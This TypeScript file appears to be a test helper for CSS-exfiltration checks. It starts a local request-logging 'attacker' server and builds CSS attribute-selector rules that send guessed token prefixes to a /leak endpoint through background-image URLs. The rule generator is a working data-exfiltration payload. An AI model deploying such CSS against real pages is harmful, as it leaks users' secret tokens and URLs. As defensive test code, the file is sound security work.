import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { makePng } from './remote-content.js';

export interface LoggedRequest {
  url: string;
  referer: string | null;
}

export interface ExfiltrationLogger {
  url: string;
  /** every request the server saw, in order */
  requests: () => LoggedRequest[];
  stop: () => Promise<void>;
}

/**
 * The attacker's server: logs every request (path, query, Referer) and answers stylesheets from `css`
 * (path -> text) and a small PNG for anything else, so CSS rules that fire are seen here.
 */
export async function startExfiltrationLogger(css: (base: string) => Record<string, string>): Promise<ExfiltrationLogger> {
  const requests: LoggedRequest[] = [];
  const png = makePng(8, [0, 0, 0]);
  let sheets: Record<string, string> = {};
  const server = http.createServer((req, res) => {
    requests.push({ url: req.url ?? '', referer: req.headers.referer ?? null });
    const path = (req.url ?? '').split('?')[0];
    const sheet = sheets[path];
    if (sheet !== undefined) res.writeHead(200, { 'Content-Type': 'text/css; charset=utf-8' }).end(sheet);
    else res.writeHead(200, { 'Content-Type': 'image/png', 'Content-Length': png.length }).end(png);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  sheets = css(url);
  return {
    url,
    requests: () => [...requests],
    stop: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/**
 * CSS that sends out what attribute values contain, as an attacker would: one rule per guess, each on its own
 * sibling element (`i.<cls>`) so that every matching rule loads its own background. `guesses` are the values
 * tried (here: every prefix of the real token and every first character), each reported as `/leak?v=`.
 */
export function attributeLeakRules(base: string, guesses: string[], cls: string): { css: string; elements: string } {
  const rules: string[] = [];
  const elements: string[] = [];
  guesses.forEach((guess, i) => {
    const value = JSON.stringify(guess);
    const target = `i.${cls}${i}`;
    const leak = `url(${base}/leak?v=${encodeURIComponent(guess)})`;
    rules.push(
      `[src*=${value}] ~ ${target}, [href*=${value}] ~ ${target}, [style*=${value}] ~ ${target} { background-image: ${leak}; }`,
    );
    elements.push(`<i class="${cls}${i}"></i>`);
  });
  return { css: rules.join('\n'), elements: elements.join('') };
}
